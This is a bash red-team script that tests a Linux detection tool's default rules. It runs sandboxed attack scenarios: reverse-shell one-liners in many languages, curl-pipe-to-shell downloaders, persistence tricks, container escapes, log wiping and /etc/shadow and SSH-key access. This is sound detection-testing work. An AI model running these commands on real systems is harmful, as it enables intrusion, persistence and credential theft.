#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# An independent red-team pass over saker's default rules: attack techniques
# done the way an intruder types them, with real tools (bash, nc, ncat, socat,
# python3, perl, php, ruby, lua, openssl, curl, wget, gdb, strace, crontab,
# visudo, useradd, insmod, setcap, nsenter, unshare, bpftool, chattr, dig, nmap,
# podman ...) and spellings saker-eventgen does not use. Each scenario runs in
# a session of its own under a live saker with the default rules; alerts are
# attributed by proc.sid (container scenarios by container id; a scenario whose
# shell gets a tty of its own writes that session's id to xsid.NAME). A scenario is
# caught when it raises an alert at Warning or above.
#
# Safety: everything is local and undone at once. Network scenarios run in a
# network namespace of their own (loopback up, 192.0.2.1 on it, the "remote"
# listener there), so no packet leaves the machine and no name is looked up
# through the machine's resolver. Files live under /tmp/saker-rt or carry
# saker-rt in their names and are removed; system files that matter
# (/etc/passwd, /proc/sys/kernel/core_pattern, ld.so.preload) are opened for
# appending with nothing written, or rewritten with the value they held.
# Destructive tools (rm -rf /, a fork bomb) are not run: the command line
# is given to a no-op or never reaches the dangerous part.
#
# Usage: tools/redteam/redteam.sh [BUILD_DIR] [SCENARIO...]
#   needs root; tools that are missing make their scenarios "skip".
#   Packages used: socat netcat-openbsd ncat php-cli ruby lua5.4 at kmod nmap
#   bind9-dnsutils telnet gdb strace podman busybox-static (make redteam-deps)
# Output: one line per scenario (caught / notice / MISSED / skip, the rules
# that fired), then the catch rate. The JSON alerts stay in $RT_KEEP if set.

set -u
W=/tmp/saker-rt
A=192.0.2.1
IMG=localhost/saker-redteam:latest
SELF=$(readlink -f "$0")

# ------------------------------------------------------------------ helpers

have() { command -v "$1" >/dev/null 2>&1; }

# listen PORT: a "remote" peer on $A:PORT (in the scenario's netns) that
# sends "exit" once a client connects, then waits for it to hang up
listen() {
	python3 "$W/listen.py" "$A" "$1" &
	for _ in $(seq 1 100); do [ -e "$W/ready.$1" ] && return 0; sleep 0.05; done
	return 1
}

# serve: a web server on $A:8000 serving $W/www
serve() {
	python3 -m http.server --bind "$A" --directory "$W/www" 8000 >/dev/null 2>&1 &
	for _ in $(seq 1 100); do
		python3 -c 'import socket,sys; socket.create_connection((sys.argv[1], 8000), 1)' "$A" 2>/dev/null && return 0
		sleep 0.05
	done
	return 1
}

# sleeper: a victim process; its pid in $VICTIM
sleeper() {
	sleep 30 &
	VICTIM=$!
}

# ctr ARGS...: a container of the red-team image, its id in $W/cid
ctr() {
	podman run -d --ulimit host "$@" >"$W/cid" 2>"$W/ctr.err" || return 1
	timeout 60 podman wait "$(cat "$W/cid")" >/dev/null 2>&1
	podman rm -f "$(cat "$W/cid")" >/dev/null 2>&1
	return 0
}

# ------------------------------------------------------------------ scenarios
# S NAME TECHNIQUE FLAGS NEEDS DESCRIPTION: FLAGS net (own network
# namespace), ctr (runs in a container: attributed by container id), - none;
# NEEDS: programs the scenario needs (comma separated) or -.
SCEN=()
S() { SCEN+=("$1	$2	$3	$4	$5"); }

# ---- execution: reverse shells
S bash_i_devtcp T1059.004 net bash "bash -i >& /dev/tcp/HOST/PORT 0>&1"
s_bash_i_devtcp() { listen 4701 && timeout 10 bash -c "bash -i >& /dev/tcp/$A/4701 0>&1" </dev/null; }
S bash_fd5_loop T1059.004 net bash "exec 5<>/dev/tcp/HOST/PORT; while read l <&5; do eval \$l >&5 2>&5; done"
s_bash_fd5_loop() { listen 4702 && timeout 10 bash -c "exec 5<>/dev/tcp/$A/4702; while read -r l <&5; do eval \"\$l\" >&5 2>&5; done"; }
S bash_stdin_devtcp T1059.004 net bash "the /dev/tcp one-liner typed into a shell's stdin (not on its command line)"
s_bash_stdin_devtcp() { listen 4703 && echo "bash -i >& /dev/tcp/$A/4703 0>&1" | timeout 10 bash; }
S mkfifo_nc T1059.004 net nc "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT >/tmp/f"
s_mkfifo_nc() { listen 4704 && timeout 10 bash -c "rm -f $W/f; mkfifo $W/f; cat $W/f | /bin/sh -i 2>&1 | nc $A 4704 >$W/f; rm -f $W/f"; }
S ncat_e T1059.004 net ncat "ncat HOST PORT -e /bin/sh"
s_ncat_e() { listen 4705 && timeout 10 ncat "$A" 4705 -e /bin/sh; }
S ncat_c T1059.004 net ncat "ncat -c 'bash -i' HOST PORT"
s_ncat_c() { listen 4706 && timeout 10 ncat -c 'bash -i' "$A" 4706; }
S busybox_nc_e T1059.004 net busybox "busybox nc HOST PORT -e /bin/sh"
s_busybox_nc_e() { listen 4707 && timeout 10 busybox nc "$A" 4707 -e /bin/sh; }
S socat_exec_pty T1059.004 net socat "socat TCP:HOST:PORT EXEC:'bash -li',pty,stderr,setsid,sigint,sane"
s_socat_exec_pty() { listen 4708 && timeout 10 socat "TCP:$A:4708" "EXEC:bash -li,pty,stderr,setsid,sigint,sane"; }
S socat_tcp4_exec T1059.004 net socat "socat tcp4:HOST:PORT exec:/bin/sh"
s_socat_tcp4_exec() { listen 4709 && timeout 10 socat "tcp4:$A:4709" exec:/bin/sh; }
S python_pty_spawn T1059.006 net python3 "python3 -c socket + os.dup2 x3 + pty.spawn(/bin/sh)"
s_python_pty_spawn() { listen 4710 && timeout 10 python3 -c "import socket,os,pty;s=socket.socket();s.connect(('$A',4710));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"; }
S python_script_subprocess T1059.006 net python3 "a python script file: subprocess.call(['/bin/sh','-i'], stdin=s, stdout=s, stderr=s)"
s_python_script_subprocess() {
	printf 'import socket,subprocess\ns=socket.create_connection(("%s",4711))\nsubprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)\n' "$A" >"$W/r.py"
	listen 4711 && timeout 10 python3 "$W/r.py"
}
S perl_socket T1059.004 net perl "perl -e 'use Socket;socket(S,...);connect(...);open(STDIN,\">&S\");...;exec(\"/bin/sh -i\")'"
s_perl_socket() { listen 4712 && timeout 10 perl -e "use Socket;\$i=\"$A\";\$p=4712;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in(\$p,inet_aton(\$i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"; }
S perl_io_socket T1059.004 net perl "perl -MIO -e '\$c=new IO::Socket::INET(PeerAddr,...);STDIN->fdopen(\$c,r);\$~->fdopen(\$c,w);system\$_ while<>;'"
s_perl_io_socket() { listen 4713 && timeout 10 perl -MIO -e "\$c=new IO::Socket::INET(PeerAddr,\"$A:4713\");STDIN->fdopen(\$c,r);\$~->fdopen(\$c,w);system\$_ while<>;"; }
S php_fsockopen T1059.004 net php "php -r '\$s=fsockopen(HOST,PORT);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"
s_php_fsockopen() { listen 4714 && timeout 10 php -r "\$sock=fsockopen(\"$A\",4714);exec(\"/bin/sh -i <&3 >&3 2>&3\");"; }
S php_proc_open T1059.004 net php "php -r proc_open('/bin/sh', [socket, socket, socket])"
s_php_proc_open() { listen 4715 && timeout 10 php -r "\$s=fsockopen(\"$A\",4715);\$p=proc_open(\"/bin/sh\",array(0=>\$s,1=>\$s,2=>\$s),\$pipes);proc_close(\$p);"; }
S ruby_tcpsocket T1059.004 net ruby "ruby -rsocket -e 'f=TCPSocket.open(...).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"
s_ruby_tcpsocket() { listen 4716 && timeout 10 ruby -rsocket -e "f=TCPSocket.open(\"$A\",4716).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"; }
S ruby_spawn T1059.004 net ruby "ruby -e 'require \"socket\";s=TCPSocket.new(...);spawn(\"/bin/sh\",[:in,:out,:err]=>s)'"
s_ruby_spawn() { listen 4717 && timeout 10 ruby -e "require 'socket';s=TCPSocket.new('$A',4717);Process.wait(spawn('/bin/sh',[:in,:out,:err]=>s))"; }
S lua_os_execute T1059.004 net lua5.4 "lua -e 'os.execute(\"bash -c \\\"bash -i >& /dev/tcp/...\\\"\")'"
s_lua_os_execute() { listen 4718 && timeout 10 lua5.4 -e "os.execute('/bin/bash -c \"bash -i >& /dev/tcp/$A/4718 0>&1\"')"; }
S openssl_sclient_fifo T1059.004 net openssl "mkfifo s; /bin/sh -i <s 2>&1 | openssl s_client -quiet -connect HOST:PORT >s"
s_openssl_sclient_fifo() {
	(sleep 1; echo exit; sleep 2) | timeout 8 openssl s_server -quiet -key "$W/k.pem" -cert "$W/c.pem" -accept 4719 -naccept 1 >/dev/null 2>&1 &
	sleep 0.5
	timeout 10 bash -c "rm -f $W/s; mkfifo $W/s; /bin/sh -i <$W/s 2>&1 | openssl s_client -quiet -connect $A:4719 >$W/s 2>/dev/null; rm -f $W/s"
}
S telnet_pipe T1059.004 net telnet "telnet HOST P1 | /bin/sh | telnet HOST P2"
s_telnet_pipe() { listen 4720 && listen 4721 && timeout 6 bash -c "telnet $A 4720 2>/dev/null | /bin/sh 2>&1 | telnet $A 4721 >/dev/null 2>&1"; }
S gawk_inet T1059.004 net gawk "gawk 'BEGIN{s=\"/inet/tcp/0/HOST/PORT\"; ... s |& getline c ...}'"
s_gawk_inet() { listen 4722 && timeout 4 gawk "BEGIN {s = \"/inet/tcp/0/$A/4722\"; s |& getline c; if (c) { while ((c |& getline) > 0) print \$0 |& s; close(c) }; close(s) }"; }

# ---- execution: downloaders
S curl_pipe_sh T1059.004 net curl "sh -c 'curl -fsS URL | sh'"
s_curl_pipe_sh() { serve && timeout 10 sh -c "curl -fsS http://$A:8000/x.sh | sh"; }
S curl_pipe_sh_tty T1059.004 net curl,script "curl URL | sh typed at an interactive bash (job control, a tty)"
# script(1) starts the shell in a session of its own (its tty's): its id goes to xsid.NAME
s_curl_pipe_sh_tty() { serve && printf 'curl -fsS http://%s:8000/x.sh | sh\nexit\n' "$A" | timeout 10 script -qc 'echo $$ >"$W/xsid.curl_pipe_sh_tty"; exec bash --norc --noprofile -i' /dev/null >/dev/null; }
S wget_pipe_python T1059.006 net wget "wget -qO- URL | python3"
s_wget_pipe_python() { serve && timeout 10 bash -c "wget -qO- http://$A:8000/x.py | python3"; }
S curl_pipe_sudo_sh T1059.004 net curl,sudo "curl URL | sudo sh"
s_curl_pipe_sudo_sh() { serve && timeout 10 bash -c "curl -fsS http://$A:8000/x.sh | sudo sh"; }
S sh_c_curl_subst T1059.004 net curl "sh -c \"\$(curl -fsSL URL)\""
s_sh_c_curl_subst() { serve && timeout 10 bash -c "sh -c \"\$(curl -fsSL http://$A:8000/x.sh)\""; }
S curl_python_exec_stdin T1059.006 net curl "curl URL | python3 -c 'import sys;exec(sys.stdin.read())'"
s_curl_python_exec_stdin() { serve && timeout 10 bash -c "curl -fsS http://$A:8000/x.py | python3 -c 'import sys;exec(sys.stdin.read())'"; }
S curl_drop_tmp_exec T1105 net curl "curl -o /tmp/x URL; chmod +x /tmp/x; /tmp/x"
s_curl_drop_tmp_exec() { serve && timeout 10 bash -c "curl -fsS -o $W/upd http://$A:8000/bin && chmod +x $W/upd && $W/upd"; }
S memfd_python T1620 - python3 "python3 os.memfd_create + write an ELF + os.execv(/proc/self/fd/N)"
s_memfd_python() { python3 -c 'import os;fd=os.memfd_create("kworker",0);os.write(fd,open("/bin/true","rb").read());os.execv("/proc/self/fd/%d"%fd,["kworker"])'; }
S memfd_perl T1620 - perl "perl syscall(319) memfd_create + exec {\"/proc/\$\$/fd/N\"}"
s_memfd_perl() { perl -e 'my $n="rt";my $fd=syscall(319,$n,0);die if $fd<0;open(my $o,">&=",$fd) or die;open(my $i,"<","/bin/true") or die;binmode $i;binmode $o;local $/;my $b=<$i>;syswrite($o,$b);exec {"/proc/$$/fd/$fd"} "rt"'; }
S devshm_exec T1059 - - "cp /bin/true /dev/shm/.x; /dev/shm/.x"
s_devshm_exec() { cp /bin/true /dev/shm/.saker-rt && /dev/shm/.saker-rt; rm -f /dev/shm/.saker-rt; }
S var_tmp_hidden_exec T1204.002 - - "a hidden binary in /var/tmp run (cp /bin/true /var/tmp/.ICE-x)"
s_var_tmp_hidden_exec() { cp /bin/true /var/tmp/.saker-rt-ice && /var/tmp/.saker-rt-ice; rm -f /var/tmp/.saker-rt-ice; }

# ---- persistence
S crontab_e_editor T1053.003 - crontab "EDITOR=script crontab -u nobody -e"
s_crontab_e_editor() { EDITOR="$W/ed-cron.sh" VISUAL="$W/ed-cron.sh" crontab -u nobody -e 2>/dev/null; crontab -u nobody -r 2>/dev/null; true; }
S crontab_stdin T1053.003 - crontab "(crontab -l; echo JOB) | crontab -"
s_crontab_stdin() { (crontab -u nobody -l 2>/dev/null; echo '@reboot /bin/true # saker-rt') | crontab -u nobody -; crontab -u nobody -r; }
S cron_d_tee T1053.003 - - "echo JOB | tee /etc/cron.d/NAME"
s_cron_d_tee() { echo '# saker-rt' | tee /etc/cron.d/saker-rt >/dev/null; rm -f /etc/cron.d/saker-rt; }
S systemd_user_unit T1543.002 - - "~/.config/systemd/user/x.service written with cat >"
s_systemd_user_unit() { mkdir -p "$W/home/.config/systemd/user" && printf '[Service]\nExecStart=/bin/true\n' >"$W/home/.config/systemd/user/rt.service"; }
S systemd_unit_cp T1543.002 - - "cp x.service /etc/systemd/system/"
s_systemd_unit_cp() { printf '[Service]\nExecStart=/bin/true\n' >"$W/rt.service"; cp "$W/rt.service" /etc/systemd/system/saker-rt.service; rm -f /etc/systemd/system/saker-rt.service; }
S systemd_run_timer T1053.006 - systemd-run "systemd-run --on-active=1h /bin/true (a transient timer)"
s_systemd_run_timer() { systemd-run --quiet --unit saker-rt --on-active=1h /bin/true && systemctl stop saker-rt.timer; }
S bashrc_append T1546.004 - - "echo CMD >> ~/.bashrc"
s_bashrc_append() { echo '# saker-rt' >>"$W/home/.bashrc"; }
S bashrc_sed_i T1546.004 - - "sed -i '\$a CMD' ~/.bashrc (a temporary file renamed over it)"
s_bashrc_sed_i() { sed -i '$a # saker-rt sed' "$W/home/.bashrc"; }
S profile_d_cp T1546.004 - - "cp x.sh /etc/profile.d/"
s_profile_d_cp() { echo '# saker-rt' >"$W/p.sh"; cp "$W/p.sh" /etc/profile.d/saker-rt.sh; rm -f /etc/profile.d/saker-rt.sh; }
S xdg_autostart T1547.013 - - "~/.config/autostart/x.desktop written"
s_xdg_autostart() { mkdir -p "$W/home/.config/autostart" && printf '[Desktop Entry]\nExec=/bin/true\n' >"$W/home/.config/autostart/rt.desktop"; }
S authorized_keys_tee T1098.004 - - "echo KEY | tee -a ~/.ssh/authorized_keys"
s_authorized_keys_tee() { mkdir -p "$W/home/.ssh" && echo 'ssh-ed25519 AAAA saker-rt' | tee -a "$W/home/.ssh/authorized_keys" >/dev/null; }
S authorized_keys_mv T1098.004 - - "mv keys ~/.ssh/authorized_keys"
s_authorized_keys_mv() { mkdir -p "$W/home/.ssh" && echo 'ssh-ed25519 AAAA saker-rt' >"$W/keys" && mv "$W/keys" "$W/home/.ssh/authorized_keys2"; }
S sudoers_visudo T1548.003 - visudo "EDITOR=script visudo -f /etc/sudoers.d/NAME"
s_sudoers_visudo() { EDITOR="$W/ed-sudo.sh" VISUAL="$W/ed-sudo.sh" SUDO_EDITOR="$W/ed-sudo.sh" visudo -f /etc/sudoers.d/saker-rt.test >/dev/null 2>&1; rm -f /etc/sudoers.d/saker-rt.test; }
S sudoers_install T1548.003 - - "install -m 440 x /etc/sudoers.d/NAME"
s_sudoers_install() { echo '# saker-rt' >"$W/sd"; install -m 440 "$W/sd" /etc/sudoers.d/saker-rt.inst; rm -f /etc/sudoers.d/saker-rt.inst; }
S useradd_usermod T1136.001 - useradd "useradd -M NAME; usermod -aG sudo NAME; userdel NAME"
s_useradd_usermod() { useradd -M -N -s /usr/sbin/nologin saker-rt && usermod -aG sudo saker-rt; userdel saker-rt 2>/dev/null; true; }
S passwd_append T1136.001 - - "echo LINE >> /etc/passwd (nothing appended here)"
s_passwd_append() { printf '' >>/etc/passwd; }
S chpasswd_root T1098 - chpasswd "echo root:PW | chpasswd (as a no-op for an account that does not exist)"
s_chpasswd_root() { echo 'saker-rt-none:pw' | chpasswd 2>/dev/null; true; }
S insmod_ko T1547.006 - insmod "insmod rootkit.ko (not a module: refused)"
s_insmod_ko() { printf 'not a module\n' >"$W/rt.ko"; insmod "$W/rt.ko" 2>/dev/null; true; }
S busybox_insmod T1547.006 - busybox "busybox insmod x.ko (refused)"
s_busybox_insmod() { printf 'not a module\n' >"$W/rt2.ko"; busybox insmod "$W/rt2.ko" 2>/dev/null; true; }
S udev_rule T1546 - - "echo 'RUN+=...' > /etc/udev/rules.d/99-x.rules"
s_udev_rule() { mkdir -p /etc/udev/rules.d; echo '# saker-rt' >/etc/udev/rules.d/99-saker-rt.rules; rm -f /etc/udev/rules.d/99-saker-rt.rules; }
S at_job T1053.002 - at "echo CMD | at now + 30 minutes"
s_at_job() { echo /bin/true | at now + 30 minutes 2>/dev/null; for j in $(atq | awk '{print $1}'); do at -c "$j" | grep -q '^/bin/true$' && atrm "$j"; done; true; }
S ld_so_preload T1574.006 - - "echo LIB >> /etc/ld.so.preload (nothing written)"
s_ld_so_preload() { [ -e /etc/ld.so.preload ] && E=1 || E=0; printf '' >>/etc/ld.so.preload; [ $E = 1 ] || rm -f /etc/ld.so.preload; }
S ld_preload_env_shm T1574.006 - - "LD_PRELOAD=/dev/shm/x.so /bin/true (absent library)"
s_ld_preload_env_shm() { LD_PRELOAD=/dev/shm/saker-rt.so /bin/true 2>/dev/null; }
S pam_module_cp T1556.003 - - "cp pam_permit.so to a new module in the PAM directory"
s_pam_module_cp() { d=/lib/x86_64-linux-gnu/security; [ -e $d/pam_permit.so ] || d=/usr/lib/x86_64-linux-gnu/security; cp $d/pam_permit.so $d/pam_saker_rt.so; rm -f $d/pam_saker_rt.so; }

# ---- privilege escalation, escapes
S nsenter_target T1611 - nsenter "nsenter --target PID --mount --uts --net /bin/true (PID: a daemon of the host; PID 1 is not readable on this VM)"
s_nsenter_target() { nsenter --target "$(pgrep -o -x cron || pgrep -o -x sshd || echo $$)" --mount --uts --net /bin/true; }
S unshare_U T1068 - unshare "unshare -U /bin/true"
s_unshare_U() { unshare -U /bin/true; }
S unshare_user_mount T1068 - unshare "unshare --user --map-root-user --mount /bin/true"
s_unshare_user_mount() { unshare --user --map-root-user --mount /bin/true; }
S gdb_attach T1055.008 - gdb "gdb -p PID -batch -ex 'info registers'"
s_gdb_attach() { sleeper; timeout 20 gdb -q -nx -p "$VICTIM" -batch -ex 'info registers rip' >/dev/null 2>&1; kill "$VICTIM"; }
S strace_attach T1056 - strace "strace -p PID (sniffing a process)"
s_strace_attach() { sleeper; timeout 2 strace -p "$VICTIM" -o /dev/null 2>/dev/null; kill "$VICTIM"; }
S proc_mem_python T1055.009 - python3 "python3: open('/proc/PID/mem', 'r+b')"
s_proc_mem_python() { sleeper; python3 -c "f=open('/proc/$VICTIM/mem','r+b'); f.close()"; kill "$VICTIM"; }
S proc_mem_dd T1055.009 - - "dd of=/proc/PID/mem conv=notrunc count=0"
s_proc_mem_dd() { sleeper; dd if=/dev/null of=/proc/$VICTIM/mem bs=1 count=0 conv=notrunc 2>/dev/null; kill "$VICTIM"; }
S setuid_shell_copy T1548.001 - runuser "cp /bin/bash /tmp/x; chmod u+s; run by nobody as 'x -p'"
s_setuid_shell_copy() { cp /bin/bash "$W/b" && chmod u+s "$W/b" && chmod 755 "$W" && runuser -u nobody -- "$W/b" -p -c true; rm -f "$W/b"; chmod 700 "$W"; }
S install_4755 T1548.001 - - "install -m 4755 /bin/true /tmp/x"
s_install_4755() { install -m 4755 /bin/true "$W/t"; rm -f "$W/t"; }
S setcap_interp T1548 - setcap "setcap cap_setuid+ep on a copy of python3"
s_setcap_interp() { cp /usr/bin/python3 "$W/py" && setcap cap_setuid+ep "$W/py"; rm -f "$W/py"; }
S setcap_setxattr T1548 - python3 "python3 os.setxattr(FILE, 'security.capability', ...)"
s_setcap_setxattr() { cp /bin/true "$W/tc" && python3 -c "import os; os.setxattr('$W/tc','security.capability',bytes.fromhex('0100000200000000000000000000000000000000'))" 2>/dev/null; rm -f "$W/tc"; true; }
S setcap_script T1548 - python3 "a python script file (no -c) calling os.setxattr(FILE, 'security.capability', ...)"
s_setcap_script() { cp /bin/true "$W/tc2" && printf 'import os, sys\nos.setxattr(sys.argv[1], "security.capability", bytes.fromhex("0100000200200000000000000000000000000000"))\n' >"$W/cap.py" && python3 "$W/cap.py" "$W/tc2" 2>/dev/null; rm -f "$W/tc2" "$W/cap.py"; true; }
S release_agent_v1 T1611 - - "mount a cgroup v1 hierarchy, write its release_agent (empty) and notify_on_release"
s_release_agent_v1() { mkdir -p "$W/cg" && mount -t cgroup -o none,name=sakerrt cgroup "$W/cg" && { echo 0 >"$W/cg/notify_on_release"; printf '' >"$W/cg/release_agent"; umount "$W/cg"; }; rmdir "$W/cg"; true; }
S core_pattern_sysctl T1611 - sysctl "sysctl -w kernel.core_pattern=VALUE (the value it had)"
s_core_pattern_sysctl() { sysctl -q -w kernel.core_pattern="$(cat /proc/sys/kernel/core_pattern)"; }
S core_pattern_echo T1611 - - "echo VALUE > /proc/sys/kernel/core_pattern (the value it had)"
s_core_pattern_echo() { cat /proc/sys/kernel/core_pattern >"$W/cp" && cat "$W/cp" >/proc/sys/kernel/core_pattern; }
S ctr_nsenter_host T1611 ctr podman "privileged container with --pid=host: nsenter -t HOSTPID -m -u -n true"
s_ctr_nsenter_host() { ctr --privileged --pid=host --network none "$IMG" nsenter -t $$ -m -u -n true; }
S ctr_docker_sock T1611 ctr podman "container with a runtime socket mounted: curl --unix-socket /var/run/docker.sock"
s_ctr_docker_sock() { rm -f "$W/sock/docker.sock"; python3 "$W/unixlisten.py" "$W/sock/docker.sock" & sleep 0.5; ctr --network none -v "$W/sock:/var/run" "$IMG" curl -s -m 2 --unix-socket /var/run/docker.sock http://x/version; }
S ctr_mount_host_disk T1611 ctr podman "privileged container: mount the host's disk"
s_ctr_mount_host_disk() { ctr --privileged --network none "$IMG" sh -c 'mkdir -p /mnt/h; mount "$(ls /dev/vda1 /dev/sda1 /dev/nvme0n1p1 2>/dev/null | head -1)" /mnt/h; umount /mnt/h; true'; }
S ctr_release_agent T1611 ctr podman "privileged container: mount a cgroup v1 hierarchy, write release_agent"
s_ctr_release_agent() { ctr --privileged --network none "$IMG" sh -c 'mkdir -p /tmp/cg && mount -t cgroup -o none,name=sakerrtc cgroup /tmp/cg && echo 0 > /tmp/cg/notify_on_release; umount /tmp/cg; true'; }
S ctr_core_pattern T1611 ctr podman "privileged container: rewrite core_pattern (its own value)"
s_ctr_core_pattern() { ctr --privileged --network none "$IMG" sh -c 'cat /proc/sys/kernel/core_pattern > /tmp/c && cat /tmp/c > /proc/sys/kernel/core_pattern'; }
S ctr_nmap_scan T1046 ctr podman "nmap -sT of the container's loopback from inside"
s_ctr_nmap_scan() { ctr --network none "$IMG" nmap -n -sT -p 20-30 127.0.0.1; }
S ctr_drop_exec T1204.002 ctr podman "copy a binary into the container and run it"
s_ctr_drop_exec() { ctr --network none "$IMG" sh -c 'cp /bin/busybox /tmp/bb && /tmp/bb true'; }
S ctr_proc_environ T1552 ctr podman "cat /proc/1/environ in a container"
s_ctr_proc_environ() { ctr --network none "$IMG" sh -c 'sleep 1 & cat /proc/$!/environ >/dev/null; wait'; }

# ---- defense evasion
S log_truncate_cmd T1070.002 - - "truncate -s 0 /var/log/FILE"
s_log_truncate_cmd() { truncate -s 0 /var/log/saker-rt.log; }
S log_colon_redirect T1070.002 - - ": > /var/log/FILE"
s_log_colon_redirect() { bash -c ': > /var/log/saker-rt.log'; }
S log_shred T1070.002 - - "shred -u /var/log/FILE"
s_log_shred() { shred -u /var/log/saker-rt.log; }
S log_cat_devnull T1070.002 - - "cat /dev/null > /var/log/FILE"
s_log_cat_devnull() { cat /dev/null >/var/log/saker-rt.log; }
S log_rm T1070.002 - - "rm -f /var/log/FILE"
s_log_rm() { rm -f /var/log/saker-rt.log; }
S history_clear T1070.003 - - "history -c; history -w (the shell rewrites its own history file)"
s_history_clear() { HISTFILE="$W/home/.bash_history" bash --norc -i -c 'history -c; history -w' 2>/dev/null; }
S histfile_devnull T1070.003 - - "export HISTFILE=/dev/null, then commands"
s_histfile_devnull() { bash -c 'export HISTFILE=/dev/null; bash -c true'; }
S histsize_zero T1070.003 - - "export HISTSIZE=0 HISTFILESIZE=0, then commands"
s_histsize_zero() { bash -c 'export HISTSIZE=0 HISTFILESIZE=0; id >/dev/null'; }
S history_ln_devnull T1070.003 - - "ln -sf /dev/null ~/.bash_history"
s_history_ln_devnull() { ln -sf /dev/null "$W/home/.bash_history"; }
S history_rm T1070.003 - - "rm ~/.bash_history"
s_history_rm() { rm -f "$W/home/.bash_history"; }
S chattr_immutable T1222.002 - chattr "chattr +i FILE (locking a planted file)"
s_chattr_immutable() { chattr +i "$W/home/.bashrc" 2>/dev/null; chattr -i "$W/home/.bashrc" 2>/dev/null; true; }
S kill_auditd_pidof T1562.001 - pidof "kill -9 \$(pidof auditd)"
s_kill_auditd_pidof() { kill -9 $(pidof auditd); }
S pkill_f_falco T1562.001 - pkill "pkill -9 -f falco"
s_pkill_f_falco() { pkill -9 -f 'falco-saker-rt-none'; true; }
S systemctl_stop_auditd T1562.001 - systemctl "systemctl stop auditd"
s_systemctl_stop_auditd() { systemctl stop auditd 2>/dev/null; true; }
S bpftool_prog_load T1014 - bpftool "bpftool prog load PROG.o /sys/fs/bpf/NAME"
s_bpftool_prog_load() { bpftool prog load "$BUILD/bench/floor.bpf.o" /sys/fs/bpf/saker_rt >/dev/null 2>&1; rm -f /sys/fs/bpf/saker_rt; true; }
S iptables_flush_netns T1562.004 net iptables "iptables -w -F (in the scenario's own netns)"
s_iptables_flush_netns() { iptables -w -F 2>/dev/null; true; }
S iptables_policy_accept T1562.004 net iptables "iptables -P INPUT ACCEPT (in its own netns)"
s_iptables_policy_accept() { iptables -w -P INPUT ACCEPT 2>/dev/null; true; }
S touch_d_ago T1070.006 - - "touch -d '2 years ago' FILE"
s_touch_d_ago() { touch "$W/ts" && touch -d '2 years ago' "$W/ts"; }
S perl_utime_script T1070.006 - perl "a perl script file setting a 2001 mtime on a file under /usr/local/lib"
s_perl_utime_script() { : >/usr/local/lib/saker-rt-ts && printf 'utime 978307200, 978307200, $ARGV[0] or die;\n' >"$W/ts.pl" && perl "$W/ts.pl" /usr/local/lib/saker-rt-ts; rm -f /usr/local/lib/saker-rt-ts "$W/ts.pl"; }
S python_self_delete T1070.004 - python3 "a copied interpreter deleting its own executable"
s_python_self_delete() { cp /usr/bin/python3 "$W/py2" && "$W/py2" -c 'import os,sys; os.unlink(sys.executable)'; rm -f "$W/py2"; }

# ---- credential access
S cp_shadow T1003.008 - - "cp /etc/shadow /tmp/"
s_cp_shadow() { cp /etc/shadow "$W/s"; rm -f "$W/s"; }
S dd_shadow T1003.008 - - "dd if=/etc/shadow"
s_dd_shadow() { dd if=/etc/shadow of=/dev/null 2>/dev/null; }
S less_shadow T1003.008 - less "less /etc/shadow"
s_less_shadow() { less /etc/shadow >/dev/null; }
S python_shadow T1003.008 - python3 "python3 -c open('/etc/shadow').read()"
s_python_shadow() { python3 -c 'open("/etc/shadow").read()'; }
S getent_shadow T1003.008 - getent "getent shadow"
s_getent_shadow() { getent shadow root >/dev/null; }
S tar_shadow T1003.008 - tar "tar cf x.tar /etc/shadow /etc/gshadow"
s_tar_shadow() { tar cf "$W/t.tar" /etc/shadow /etc/gshadow 2>/dev/null; rm -f "$W/t.tar"; }
S find_id_rsa T1552.004 - - "find / -name 'id_rsa*'"
s_find_id_rsa() { find /root /home -maxdepth 3 -name 'id_rsa*' >/dev/null 2>&1; true; }
S grep_private_key T1552.004 - - "grep -rl 'BEGIN OPENSSH PRIVATE KEY' DIR"
s_grep_private_key() { grep -rl 'BEGIN OPENSSH PRIVATE KEY' "$W/home" >/dev/null 2>&1; true; }
S find_pem_key T1552.004 - - "find / \\( -name '*.pem' -o -name '*.key' \\)"
s_find_pem_key() { find /etc -maxdepth 2 \( -name '*.pem' -o -name '*.key' \) >/dev/null 2>&1; true; }
S grep_proc_environ T1552 - - "grep -a AWS_ /proc/*/environ"
s_grep_proc_environ() { sleeper; grep -a -h AWS_ /proc/$VICTIM/environ >/dev/null 2>&1; kill "$VICTIM"; true; }
S cat_ssh_key T1552.004 - - "cat ~/.ssh/id_ed25519"
s_cat_ssh_key() { mkdir -p "$W/home/.ssh" && echo k >"$W/home/.ssh/id_ed25519" && cat "$W/home/.ssh/id_ed25519" >/dev/null; }
S aws_creds_cat T1552.001 - - "cat ~/.aws/credentials"
s_aws_creds_cat() { mkdir -p "$W/home/.aws" && echo '[default]' >"$W/home/.aws/credentials" && cat "$W/home/.aws/credentials" >/dev/null; }

# ---- command and control, exfiltration, discovery
S curl_miner_port T1496 net curl "curl http://HOST:3333/"
s_curl_miner_port() { listen 3333 && timeout 5 curl -s -m 2 "http://$A:3333/" >/dev/null; true; }
S miner_renamed_cmdline T1496 - - "a renamed miner: ./kswapd0 -o pool.minexmr.com:4444 -u WALLET"
s_miner_renamed_cmdline() { cp /bin/true "$W/kswapd0" && "$W/kswapd0" -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ -k --tls; }
S python_raw_icmp T1095 - python3 "python3 socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)"
s_python_raw_icmp() { python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()'; }
S python_packet_socket T1040 - python3 "python3 socket(AF_PACKET, SOCK_RAW)"
s_python_packet_socket() { python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()'; }
